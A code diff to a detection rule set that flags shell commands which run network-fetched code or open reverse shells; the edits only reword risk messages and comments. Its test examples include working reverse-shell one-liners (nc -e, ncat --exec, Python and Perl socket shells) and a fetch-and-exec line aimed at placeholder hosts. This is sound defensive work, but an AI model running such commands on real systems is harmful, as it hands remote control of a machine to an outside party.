@@ -25,14 +25,14 @@ const runners = [
 export const networkCode: readonly Rule[] = [
   {
     id: 'network/run-download',
-    title: 'Runs code from the network unseen',
+    title: 'Runs code from the network unread',
     severity: 'high',
     programs: ['*'],
     finds: (run) => {
       const found = fetcher(sourcesRun(run))
       return found && found !== run ? found.part : false
     },
-    risk: (what) => `runs what “${what}” brings from the network, before anyone has read it`,
+    risk: (what) => `runs what “${what}” fetches from the network, before anyone has read it`,
     safer: (run) => {
       const from = fetcher(sourcesRun(run))
       return from && /^(?:curl|wget)$/.test(from.program) && !/ -\w*[oO]\b/.test(from.part)
@@ -75,7 +75,7 @@ export const networkCode: readonly Rule[] = [
         /urlopen|requests\.get|urllib|http\.get|https\.get|fetch\(|LWP|Net::HTTP|open-uri|URI\.open|file_get_contents\(\s*["']http|get\(\s*["']https?:/i
       return fetches.test(code) && /\b(?:exec|eval|system|popen)\b/.test(code)
     },
-    risk: 'runs what it brings from the network, before anyone has read it',
+    risk: 'runs what it fetches from the network, before anyone has read it',
     caught: [`python3 -c "import urllib.request as u; exec(u.urlopen('http://x').read())"`],
     passed: [`python3 -c "import urllib.request as u; print(u.urlopen('http://x').read())"`],
   },
@@ -110,7 +110,7 @@ export const networkCode: readonly Rule[] = [
         return fed && (run.program === 'telnet' || has(run, 'connect') || subcommand(run)[0] === 's_client')
       return (has(run, 'e', 'c', 'exec', 'sh-exec') && shell) || fed
     },
-    risk: 'gives a shell on this machine to whoever is at the other end',
+    risk: 'gives a shell on this machine to the other end of the connection',
     caught: [
       'nc -e /bin/sh 1.2.3.4 4444',
       'ncat 1.2.3.4 9 --exec /bin/bash',
@@ -163,7 +163,7 @@ export const networkCode: readonly Rule[] = [
         )
       )
     },
-    risk: 'opens a connection and puts a shell on it',
+    risk: 'opens a connection and gives a shell to its other end',
     caught: [
       `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
       `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'`,
@@ -180,7 +180,7 @@ export const networkCode: readonly Rule[] = [
 
 /** The commands whose output this run executes. */
 function sourcesRun(run: Invocation): readonly Invocation[] {
-  // Adding such a line to a file of the shell runs nothing yet: another rule tells.
+  // Adding such a line to a start file of a shell runs nothing yet: there is another rule for that.
   if (run.via.includes(PLANTED)) return []
   if (run.program === 'ssh' || run.program === 'su') return run.args.length === 1 ? run.upstream : []
   const isRunner = runners.includes(run.program)
@@ -203,12 +203,12 @@ function sourcesRun(run: Invocation): readonly Invocation[] {
       words[0]?.value === '-' ||
       words[0]?.value === '/dev/stdin' ||
       run.args.some((field) => /^-\w*s$/.test(field.value)))
-  // Where the input is known but for a stretch, that stretch runs only when it stands in a command's place.
+  // When only a stretch of the input is unknown, that stretch runs only if it is at the start of a command.
   const unseen = run.input === undefined || isCode(fieldOf(run.input))
   return [...(fromInput && unseen ? [...run.upstream, ...inWords(run)] : []), ...run.origin]
 }
 
-/** `echo "$(curl x)" | sh`: what comes before it only says what another command brought. */
+/** `echo "$(curl x)" | sh`: what comes before it only prints what another command fetched. */
 function inWords(run: Invocation): readonly Invocation[] {
   const last = run.upstream.at(-1)
   if (!last || !/^(?:echo|printf|cat)$/.test(last.program)) return []
